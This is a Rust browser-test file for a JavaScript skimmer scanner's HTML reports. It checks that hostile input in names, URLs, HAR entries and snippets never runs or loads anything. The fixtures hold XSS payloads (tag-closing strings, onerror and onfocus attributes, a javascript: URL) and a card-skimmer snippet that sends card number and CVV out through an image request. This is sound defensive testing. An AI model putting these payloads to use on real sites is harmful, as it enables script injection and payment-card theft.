//! The pages of `verdict scan --report` and `verdict monitor report` in a real browser, full of what attackers write.

#![allow(clippy::unwrap_used, reason = "what is not as expected fails the test")]

use std::path::Path;
use std::time::Duration;
use std::{fs, thread};

use crate::binary::{Folder, PLAIN, examples, run, run_on};
use crate::counting_server::Server;
use crate::webdriver::Browser;
use serde_json::{Value, json};

/// Closes whatever a text may be in.
const CLOSING: &str = "</script></style></title></textarea></pre></template>-->";
/// Ends an attribute and begins others.
const ATTRIBUTE: &str = "\" autofocus onfocus=window.pwned=1 x=\"' onmouseover='window.pwned=1";

/// An image that tells a server that it was loaded, and runs if it cannot be.
fn image(server: &str, mark: &str) -> String {
    format!("<img src={server}/{mark} onerror=window.pwned=1>")
}

/// A skimmer whose address is all of that.
fn skimmer(server: &str) -> String {
    format!(
        "document.querySelector('#pay').addEventListener('click', function () {{\n\
         var card = {{ cc_number: document.getElementById('cc_number').value, cvv: document.getElementById('cc_cid').value }};\n\
         new Image().src = `{server}/mark-snippet{CLOSING}<script>window.pwned=1</script>{ATTRIBUTE}?d=` + btoa(JSON.stringify(card));\n}});"
    )
}

/// Everything that could make a browser run or load something, in names, addresses, pages, snippets and errors.
fn hostile_page(port: u16) -> (Folder, String) {
    let server = format!("http://127.0.0.1:{port}");
    let (closing, attribute, skimmer) = (CLOSING, ATTRIBUTE, skimmer(&server));
    let image = |mark: &str| image(&server, mark);
    let entry = |url: &str, text: &str| {
        json!({"pageref": "p", "request": {"url": url},
            "response": {"content": {"mimeType": "text/javascript", "text": text}}})
    };
    let har = json!({"log": {
        "pages": [{"id": "p", "title": format!("https://shop.example/mark-page{closing}{}{attribute}", image("page"))}],
        "entries": [
            entry("https://clean.example/a.js", PLAIN),
            entry(&format!("{server}/mark-url{closing}{}{attribute}", image("url")), PLAIN),
            entry("javascript:window.pwned=1//mark-scheme", PLAIN),
            entry("https://bidi.example/\u{202e}mark-bidi\u{2066}\u{0}.js", PLAIN),
            entry(&format!("https://cdn.evil.example/mark-listed{}", image("listed")), &skimmer),
            json!({"request": {"url": "https://other.example/b.js"}, "response": {"content": {
                "mimeType": "text/javascript", "text": "b()", "encoding": format!("mark-error{}", image("error"))}}}),
        ],
    }});
    let folder = Folder::new(&[
        ("a-clean.js", PLAIN.as_bytes()),
        (&format!("mark-name{}.js", image("name").replace('/', "&#47;")), PLAIN.as_bytes()),
        ("r.har", har.to_string().as_bytes()),
        ("z.js", skimmer.as_bytes()),
        ("feed.txt", b"evil.example\n"),
    ]);
    let feed = format!("{}:domains:phishing", folder.at("feed.txt"));
    let report = folder.at("report.html");
    let ran = run(&["scan", folder.path().to_str().unwrap(), "--feed", &feed, "--report", &report]);
    assert_eq!(ran.status, Some(1), "{ran:?}");
    (folder, report)
}

/// The page of an inventory that remembers as much.
fn hostile_inventory(port: u16) -> (Folder, String) {
    let server = format!("http://127.0.0.1:{port}");
    let hostile = |mark: &str| format!("{mark}{CLOSING}{}{ATTRIBUTE}", image(&server, mark));
    let listed = format!("https://cdn.evil.example/{}", hostile("mark-listed"));
    let clean = format!("{server}/{}", hostile("mark-clean"));
    let script = |url: &str, page: &str, day: u32, text: &str| {
        json!({"kind": "script", "url": url, "page_url": format!("https://shop.example/{}", hostile(page)),
            "seen_at": format!("2026-11-{day}T08:00:00Z"), "text": text})
    };
    let skimmer = skimmer(&server);
    let connection =
        json!({"kind": "connection", "url": "wss://live.evil.example/x", "seen_at": "2026-11-22T08:00:00Z"});
    let seen = [
        script(&clean, "mark-first-page", 20, PLAIN),
        script(&listed, "mark-first-page", 20, PLAIN),
        script(&listed, "mark-page", 21, PLAIN),
        script(&listed, "mark-page", 22, &skimmer),
        connection,
    ];
    let said = json!({"url": listed, "justification": hostile("mark-reason"), "by": hostile("mark-by"), "approved": true});
    let folder = Folder::new(&[("feed.txt", b"evil.example\n")]);
    let (state, report) = (folder.at("state.db"), folder.at("report.html"));
    let (feed, compiled) = (format!("{}:domains:phishing", folder.at("feed.txt")), folder.at("x.vfeed"));
    assert_eq!(run(&["feeds", "build", "-o", &compiled, &feed]).status, Some(0));
    let lines = |values: &[Value]| values.iter().map(|value| format!("{value}\n")).collect::<String>();
    // Approved as it was before it changed.
    for (command, input) in [
        (["observe", "-"], lines(&seen[..3])),
        (["justify", "--at=2026-11-21T09:00:00Z"], lines(&[said])),
        (["observe", "-"], lines(&seen[3..])),
        (["feeds", &compiled], String::new()),
        (["report", &report], String::new()),
    ] {
        let arguments =
            [&["monitor", "--state", &state, "--at", "2026-11-23T08:00:00Z"], &command[..]].concat();
        let ran = run_on(&arguments, input.as_bytes());
        assert_eq!(ran.status, Some(0), "{command:?}: {ran:?}");
    }
    (folder, report)
}

/// Opens a page, and everything on it, and looks whether any of the texts did something.
fn runs_and_loads_nothing(browser: &Browser, server: &Server, report: &str, marks: &[&str]) {
    browser.open(report);
    browser.run("for (const item of document.querySelectorAll('details')) item.open = true;");
    thread::sleep(Duration::from_millis(700));

    assert_eq!(browser.run("return typeof window.pwned"), "undefined");
    assert_eq!(server.requests(), 0, "the page loads nothing");
    assert_eq!(browser.console(), [""; 0], "nothing had to be stopped");
    // All of it is there, as text, and only our own elements are.
    let text = browser.run("return document.body.textContent").as_str().unwrap().to_owned();
    for mark in marks {
        assert!(text.contains(mark), "{mark}");
    }
    assert!(text.contains("<img src=http://127.0.0.1"), "as it was written");
    assert_eq!(count(browser, "script"), 1);
    assert_eq!(count(browser, "img, iframe, object, embed, link, base, [src], [onerror], [onfocus]"), 0);
    assert_eq!(count(browser, "[href]:not([href='#results']), [onmouseover], [autofocus]"), 0);
}

fn set(browser: &Browser, field: &str, value: &str) {
    browser.run(&format!(
        "const field = document.getElementById('filters').elements.namedItem({});
         field.value = {};
         field.dispatchEvent(new Event('input', {{ bubbles: true }}));",
        json!(field),
        json!(value)
    ));
}

fn count(browser: &Browser, selector: &str) -> u64 {
    browser.run(&format!("return document.querySelectorAll({}).length", json!(selector))).as_u64().unwrap()
}

const SHOWN: &str = "details.item:not([hidden])";

#[test]
fn hostile_texts_run_nothing_and_load_nothing() {
    let Some(browser) = Browser::start() else { return };
    let server = Server::start();
    let (_folder, report) = hostile_page(server.port);
    let marks =
        ["mark-name", "mark-url", "mark-page", "mark-snippet", "mark-scheme", "mark-listed", "mark-error"];
    runs_and_loads_nothing(&browser, &server, &report, &marks);
    let text = browser.run("return document.body.textContent").as_str().unwrap().to_owned();
    assert!(text.contains("\\u{202e}mark-bidi\\u{2066}") && !text.contains('\u{202e}'));

    // The policy is a wall of its own: what gets into the page by another way is stopped.
    browser.run(&format!(
        "const image = document.createElement('img'); image.src = 'http://127.0.0.1:{}/x'; document.body.append(image);
         const node = document.createElement('div');
         try {{ node.setAttribute('onclick', 'window.pwned = 1'); }} catch (refused) {{}}
         document.body.append(node); node.click();",
        server.port
    ));
    thread::sleep(Duration::from_millis(300));
    assert_eq!(browser.run("return typeof window.pwned"), "undefined");
    assert_eq!(server.requests(), 0);
    assert!(browser.console().iter().any(|line| line.contains("Content Security Policy")));

    // The test can fail: the same texts in a page without walls do all of that.
    let folder = Folder::new(&[(
        "open.html",
        format!("<script src=http://127.0.0.1:{}/x.js></script>", server.port).as_bytes(),
    )]);
    browser.open(&folder.at("open.html"));
    thread::sleep(Duration::from_millis(300));
    assert_eq!(browser.run("return typeof window.pwned"), "number");
    assert!(server.requests() > 0);
}

#[test]
fn the_page_of_an_inventory_shows_what_it_remembers_and_runs_nothing() {
    let Some(browser) = Browser::start() else { return };
    let server = Server::start();
    let (_folder, report) = hostile_inventory(server.port);
    let marks = [
        "mark-listed",
        "mark-clean",
        "mark-first-page",
        "mark-page",
        "mark-reason",
        "mark-by",
        "mark-snippet",
    ];
    runs_and_loads_nothing(&browser, &server, &report, &marks);

    let states = browser.run(
        "return [...document.querySelectorAll('#scripts details.item')].map((item) => item.dataset.state)",
    );
    assert_eq!(states, json!(["malicious", "clean"]));
    assert_eq!(count(&browser, "#connections details.item[data-state=malicious]"), 1);
    let section = |heading: &str| {
        browser.run(&format!(
            "return [...document.querySelector('#scripts details.item').querySelectorAll('section')]
                .find((section) => section.querySelector('h4').textContent === '{heading}').textContent"
        ))
    };
    for (heading, wanted) in [
        (
            "Versions",
            &["2026-11-22 08:00 UTC", "+ host", "127.0.0.1", "+ signal", "2026-11-20 08:00 UTC"][..],
        ),
        (
            "Authorisation",
            &["Its code changed since it was approved", "mark-reason", "mark-by", "2026-11-21 09:00 UTC"],
        ),
        ("Seen", &["2026-11-20 08:00 UTC", "2026-11-22 08:00 UTC", "mark-first-page", "mark-page", "Times3"]),
        ("Threat feeds", &["evil.example", "Phishing"]),
    ] {
        let text = section(heading);
        let text = text.as_str().unwrap();
        for want in wanted {
            assert!(text.contains(want), "{heading}: {want} in {text}");
        }
    }
    assert_eq!(browser.run("return document.querySelector('.made time').dateTime"), "2026-11-23T08:00:00Z");
    let model = browser.run("return document.querySelector('footer').textContent");
    assert!(!model.as_str().unwrap().contains("Model none"), "the model that scored: {model}");

    // What only an inventory knows can be filtered and sorted by.
    set(&browser, "status", "infrequent");
    assert_eq!(count(&browser, "#scripts details.item:not([hidden])"), 1);
    set(&browser, "status", "active");
    assert_eq!(count(&browser, "#scripts details.item[data-state=malicious]:not([hidden])"), 1);
    assert_eq!(count(&browser, SHOWN), 1);
    set(&browser, "status", "");
    set(&browser, "sort", "last");
    let last = browser.run(
        "return [...document.querySelectorAll('#scripts details.item')].map((item) => item.dataset.last)",
    );
    assert_eq!(last, json!(["2026-11-22T08:00:00Z", "2026-11-20T08:00:00Z"]));
}

#[test]
fn malicious_rows_come_first_and_filters_work() {
    let Some(browser) = Browser::start() else { return };
    let (_folder, report) = hostile_page(9);
    browser.open(&report);
    browser.resize(1600, 1000, "light");
    let states = browser.run(
        "return [...document.querySelectorAll('#scripts details.item')].map((item) => item.dataset.state)",
    );
    let states: Vec<&str> = states.as_array().unwrap().iter().map(|state| state.as_str().unwrap()).collect();
    let malicious = states.iter().filter(|state| **state == "malicious").count();
    assert!(malicious >= 2 && malicious < states.len(), "{states:?}");
    assert!(states[..malicious].iter().all(|state| *state == "malicious"), "{states:?}");
    // What is malicious is open, with its score, its evidence and the feed.
    let first = browser.run("return document.querySelector('#scripts details.item[open]').textContent");
    assert!(first.as_str().unwrap().contains("Evidence in the code"), "{first}");
    let all = count(&browser, SHOWN);

    set(&browser, "state", "malicious");
    assert!(count(&browser, SHOWN) >= malicious as u64 && count(&browser, SHOWN) < all);
    assert_eq!(count(&browser, SHOWN), count(&browser, "details.item[data-state=malicious]:not([hidden])"));
    let told = browser.run("return document.getElementById('shown').textContent");
    assert_eq!(told, format!("Showing {} of {all}", count(&browser, SHOWN)));
    set(&browser, "kind", "script");
    assert_eq!(count(&browser, SHOWN), malicious as u64);
    set(&browser, "by", "domain");
    assert_eq!(count(&browser, SHOWN), 1);
    set(&browser, "category", "Phishing");
    assert_eq!(count(&browser, SHOWN), 1);
    browser.run("document.querySelector('button[type=reset]').click()");
    thread::sleep(Duration::from_millis(200));
    assert_eq!(count(&browser, SHOWN), all);

    // By the keyboard alone.
    browser.keys("input[name=text]", "CLEAN.example");
    assert_eq!(count(&browser, "#scripts details.item:not([hidden])"), 1);
    assert_eq!(count(&browser, "#scripts details.item:not([hidden])[open]"), 0);
    browser.keys("#scripts details.item:not([hidden]) summary", "\u{e007}");
    assert_eq!(count(&browser, "#scripts details.item:not([hidden])[open]"), 1);
    set(&browser, "text", "nothing has this name");
    assert_eq!(count(&browser, SHOWN), 0);
    assert_eq!(count(&browser, ".empty:not([hidden])"), 2);
    set(&browser, "text", "");

    set(&browser, "sort", "name");
    let names = browser.run(
        "return [...document.querySelectorAll('#scripts details.item')].map((item) => item.dataset.name)",
    );
    let names: Vec<&Value> = names.as_array().unwrap().iter().collect();
    assert!(names.is_sorted_by_key(|name| name.as_str().unwrap()), "{names:?}");
    set(&browser, "sort", "rank");
    assert_eq!(count(&browser, "#scripts details.item:first-child[data-state=malicious]"), 1);
}

/// Opening, closing and sorting touch only what is laid out, whatever the page holds.
#[test]
fn ten_thousand_rows_are_quick_and_omitted_ones_are_found() {
    let Some(browser) = Browser::start() else { return };
    let entry = |at: usize| {
        json!({"request": {"url": format!("https://h{at}.rows.example/{at}.js")},
            "response": {"content": {"mimeType": "text/javascript", "text": format!("row({at})")}}})
    };
    let entries: Vec<Value> = (0..6_000).map(entry).collect();
    let folder = Folder::new(&[("r.har", json!({"log": {"entries": entries}}).to_string().as_bytes())]);
    let report = folder.at("report.html");
    // Scripts and connections: 12,000 rows, of which 2,000 are left out.
    assert_eq!(run(&["scan", &folder.at("r.har"), "--report", &report, "--format", "jsonl"]).status, Some(0));
    browser.open(&report);
    let text = browser.run("return document.querySelector('header').textContent");
    assert!(text.as_str().unwrap().contains("2000 rows are not on this page"), "{text}");
    let milliseconds = |work: &str| {
        browser
            .run(&format!(
                "const start = performance.now(); {work}; document.body.offsetHeight; return performance.now() - start"
            ))
            .as_f64()
            .unwrap()
    };
    let sort =
        "const field = document.getElementById('filters').elements.namedItem('sort'); field.value = 'name';
        field.dispatchEvent(new Event('input', { bubbles: true }))";
    for (what, work) in [
        ("open", "document.getElementById('open').click()"),
        ("sort", sort),
        ("close", "document.getElementById('close').click()"),
    ] {
        let least = (0..3).map(|_| milliseconds(work)).fold(f64::INFINITY, f64::min);
        println!("{what}: {least} ms");
        assert!(count(&browser, "details.item") <= 400, "{what}: only a part of the rows is laid out");
    }
    // What is not on the page is found by name, and more rows come at a click.
    let omitted =
        browser.run("return document.querySelector('#scripts .omitted pre').textContent.split('\\n')[0]");
    let name = omitted.as_str().unwrap().rsplit('\t').next().unwrap().to_owned();
    set(&browser, "text", &name);
    assert_eq!(count(&browser, "#scripts details.item"), 0);
    let found = browser.run("return document.querySelector('#scripts .found li').textContent");
    assert!(found.as_str().unwrap().contains(&name), "{found}");
    set(&browser, "text", "");
    let shown = count(&browser, "#scripts details.item");
    browser.run("document.querySelector('#scripts .more').click()");
    assert_eq!(count(&browser, "#scripts details.item"), 2 * shown);
}

/// The code of a finding keeps its lines, and says which part is meant.
#[test]
fn code_keeps_its_lines_and_its_finding_is_marked() {
    let Some(examples) = examples() else { return };
    let folder = Folder::new(&[]);
    let report = folder.at("shop.html");
    let script = examples.join("shop/js/order-review.js");
    assert_eq!(run(&["scan", script.to_str().unwrap(), "--report", &report]).status, Some(1));
    let page = fs::read_to_string(&report).unwrap();
    let (_, code) = page.split_once("<pre tabindex=\"0\"").unwrap();
    let (code, _) = code.split_once("</pre>").unwrap();
    let (before, rest) = code.split_once("<mark>").unwrap();
    let (marked, after) = rest.split_once("</mark>").unwrap();
    assert!(!marked.trim().is_empty() && before.contains('\n') && after.contains('\n'), "{code}");
}

#[test]
fn the_page_fits_narrow_and_wide_windows_and_names_everything() {
    let Some(browser) = Browser::start() else { return };
    let (_folder, report) = hostile_page(9);
    browser.open(&report);
    for (width, scheme) in [(400, "light"), (400, "dark"), (1600, "light"), (1600, "dark")] {
        browser.resize(width, 900, scheme);
        let overflow = browser.run("return document.documentElement.scrollWidth - innerWidth");
        assert!(overflow.as_i64().unwrap() <= 0, "{width}: {overflow} pixels too wide");
    }
    // What a screen reader needs: a language, one heading of the first level, headings in order, named fields.
    let outline = browser.run(
        "return [document.documentElement.lang, document.querySelectorAll('h1').length,
            [...document.querySelectorAll('select, input')].filter((field) => field.labels.length !== 1).length,
            [...document.querySelectorAll('button')].filter((button) => !button.textContent.trim()).length,
            document.querySelectorAll('main, [role=search], [role=status]').length,
            [...document.querySelectorAll('svg')].filter((bar) => bar.getAttribute('aria-hidden') !== 'true').length]",
    );
    assert_eq!(outline, json!(["en", 1, 0, 0, 3, 0]));
    // Text on its ground, by the contrast of WCAG 2.2 (1.4.3), in both schemes.
    for scheme in ["light", "dark"] {
        browser.resize(1600, 900, scheme);
        let ratios = browser.run(CONTRASTS);
        for row in ratios.as_array().unwrap() {
            assert!(row[1].as_f64().unwrap() >= 4.5, "{scheme}: {row}");
        }
    }
}

/// Contrast ratios of texts that are in colour.
const CONTRASTS: &str = "
    const parse = (color) => color.match(/[\\d.]+/g).map(Number);
    const luminance = (color) => {
        const [r, g, b] = parse(color).slice(0, 3).map((c) => c / 255)
            .map((c) => (c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4));
        return 0.2126 * r + 0.7152 * g + 0.0722 * b;
    };
    const ground = (node) => {
        for (let at = node; at; at = at.parentElement) {
            const color = getComputedStyle(at).backgroundColor;
            if (parse(color)[3] !== 0) return color;
        }
        return 'rgb(255, 255, 255)';
    };
    return ['.badge', '.headline', '.chip', '.made', 'h3', 'h4', '.signal', 'footer', '.count', '.tile dd', 'pre code'].map((selector) => {
        const node = document.querySelector(selector);
        const [a, b] = [luminance(getComputedStyle(node).color), luminance(ground(node))].sort((x, y) => y - x);
        return [selector, (a + 0.05) / (b + 0.05)];
    });";

/// Ways in which pages load a copy of their own when another host does not answer. Each was taken for a skimmer once.
const FALLBACKS: [&str; 6] = [
    "('fetch' in window) || document.write('<script src=\"https://cdn.example/fetch.js\"><\\/script>')",
    "window.jQuery || document.write('<script src=\"/js/jquery.min.js\"><\\/script>')",
    "window.Promise||document.write(unescape('%3Cscript src=\"/js/promise.js\"%3E%3C/script%3E'))",
    "if (typeof jQuery == 'undefined') document.write(\"<scr\" + \"ipt src='/js/jquery.js'></scr\" + \"ipt>\")",
    "'IntersectionObserver' in window || document.write('<script src=\"//cdn.example/io.js\"></scr' + 'ipt>')",
    "window.jQuery || (function (d) { var s = d.createElement('script'); s.src = '/js/jquery.js'; \
     d.head.appendChild(s); }(document))",
];

#[test]
fn fallbacks_of_real_pages_are_clean_rows() {
    let page: String = FALLBACKS.iter().map(|code| format!("<script>{code}</script>\n")).collect();
    let folder = Folder::new(&[("page.html", page.as_bytes())]);
    let report = folder.at("report.html");
    let ran = run(&["scan", &folder.at("page.html"), "--report", &report, "--format", "json"]);
    assert_eq!(ran.status, Some(0), "{}", ran.stdout);
    let document: Value = serde_json::from_str(&ran.stdout).unwrap();
    let rows = document["results"].as_array().unwrap();
    let scored: Vec<&Value> = rows.iter().filter(|row| row["js_integrity_score"].is_u64()).collect();
    assert_eq!(scored.len(), FALLBACKS.len());
    for row in scored {
        assert_eq!((&row["standing"], &row["class"]), (&json!("clean"), &json!("benign")), "{row}");
    }
    assert!(fs::read_to_string(&report).unwrap().contains("Nothing malicious found"));
}

/// Makes the pictures of the README:
///
/// ```sh
/// VERDICT_SCREENSHOTS=docs/images cargo test -p pagewarden-verdict-cli --test it report_page::
/// ```
#[test]
fn the_example_shop_has_a_report() {
    let Some(examples) = examples() else { return };
    let folder = Folder::new(&[]);
    let report = folder.at("shop.html");
    // From the workspace's folder, so that names are as a reader of the README sees them.
    let mut command = crate::binary::command(&[
        "scan",
        "examples/shop",
        "--feed",
        "examples/feeds/demo-hosts.txt:hosts:malware",
        "--report",
        &report,
    ]);
    command.current_dir(examples.join(".."));
    assert_eq!(crate::binary::run_with(command, b"").status, Some(1));
    let page = fs::read_to_string(&report).unwrap();
    assert!(page.contains("2 malicious resources") && page.contains("order-review.js"));
    let Some(target) = std::env::var_os("VERDICT_SCREENSHOTS") else { return };
    let Some(browser) = Browser::start() else { return };
    let target = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").join(target);
    fs::create_dir_all(&target).unwrap();
    browser.open(&report);
    for (width, height, scheme) in [(1600, 1000, "light"), (400, 860, "dark")] {
        browser.resize(width, height, scheme);
        thread::sleep(Duration::from_millis(200));
        fs::write(target.join(format!("report-{width}-{scheme}.png")), browser.screenshot()).unwrap();
    }
}
